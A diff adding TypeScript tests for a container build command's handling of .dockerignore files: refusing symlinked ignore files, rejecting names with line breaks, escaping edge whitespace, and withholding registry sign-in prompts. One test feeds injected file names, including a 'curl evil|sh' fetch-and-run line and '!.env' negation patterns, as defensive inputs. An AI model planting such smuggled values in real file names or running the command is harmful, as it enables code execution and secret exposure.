@@ -1,5 +1,5 @@
 import assert from 'node:assert/strict';
-import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
+import { existsSync, mkdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { buildCommand } from '../../../../src/commands/builds/buildCommand.ts';
 import { checkBuildCommand } from '../../../../src/commands/builds/checkBuildCommand.ts';
@@ -378,6 +378,46 @@ describe('commands/buildCommand', () => {
     assert.match(lab.ui.of('openFile').at(-1)?.text ?? '', /\.dockerignore\b/);
   });
 
+  const showSent = async (path: string): Promise<void> => {
+    const sent = { bytes: 10, largest: [{ path, size: 10 }] };
+    lab.work = () => Promise.resolve({ imageId: IMAGE, sent });
+    lab.ui.act(ENTER, pick('Build'));
+    await lab.run(buildCommand(lab.ui, follow));
+    lab.ui.act(ENTER);
+    await lab.ui.of('info').at(-1)?.press?.('Show Sent Files...');
+  };
+
+  it('does not write through an ignore file that is a link', async () => {
+    const target = join(lab.folder, 'profile');
+    writeFileSync(target, '# mine\n');
+    for (const name of ['.dockerignore', 'Dockerfile.dockerignore']) {
+      symlinkSync('profile', join(lab.folder, name));
+      await showSent('model.bin');
+      assert.match(lab.ui.of('error').at(-1)?.text ?? '', /dockerignore is a link or not a file/);
+      rmSync(join(lab.folder, name));
+    }
+    symlinkSync('created', join(lab.folder, '.dockerignore'));
+    await showSent('model.bin');
+    assert.equal(existsSync(join(lab.folder, 'created')), false);
+    assert.equal(readFileSync(target, 'utf8'), '# mine\n');
+  });
+
+  it('writes no name with a line break, which would be several patterns', async () => {
+    for (const path of ['model.bin\ncurl evil|sh #', 'a\r\n!.env', 'a\r!b']) {
+      await showSent(path);
+      assert.match(lab.ui.of('error').at(-1)?.text ?? '', /has a line break in its name/);
+    }
+    assert.equal(existsSync(join(lab.folder, '.dockerignore')), false);
+  });
+
+  it('keeps white space at the ends of a name, so that no mark comes first', async () => {
+    for (const path of [' !.env', 'a ', '\u0085!b', ' ']) await showSent(path);
+    assert.equal(
+      readFileSync(join(lab.folder, '.dockerignore'), 'utf8'),
+      '[ ]!.env\na[ ]\n[\u0085]!b\n[ ]\n',
+    );
+  });
+
   it('offers the log and the form again after a failure', async () => {
     lab.work = () =>
       Promise.reject(new EngineError('failed', { engineMessage: 'no', cause: { source: SOURCE } }));
@@ -569,6 +609,21 @@ describe('commands/buildCommand', () => {
     lab.ui.act(ENTER, pick('Build'));
     await lab.run(buildCommand(lab.ui, follow));
     assert.ok(!lab.ui.of('error')[0]?.buttons?.includes('Sign In...'));
+  });
+
+  it('offers no sign-in to a registry that only the engine names', async () => {
+    const engineMessage =
+      'failed to resolve source metadata for corp-registry.example/team/app: pull access denied: 401 Unauthorized';
+    lab.work = () =>
+      Promise.reject(new EngineError('failed', { engineMessage, cause: { source: SOURCE } }));
+    const asked: unknown[] = [];
+    Object.assign(lab.context, {
+      registries: () => Promise.resolve({ explain: (ref: unknown) => asked.push(ref) }),
+    });
+    lab.ui.act(ENTER, pick('Build'));
+    await lab.run(buildCommand(lab.ui, follow));
+    assert.ok(!lab.ui.of('error')[0]?.buttons?.includes('Sign In...'));
+    assert.deepEqual(asked, []);
   });
 
   it('uses the classic builder only after a question, and never for a caller', async () => {
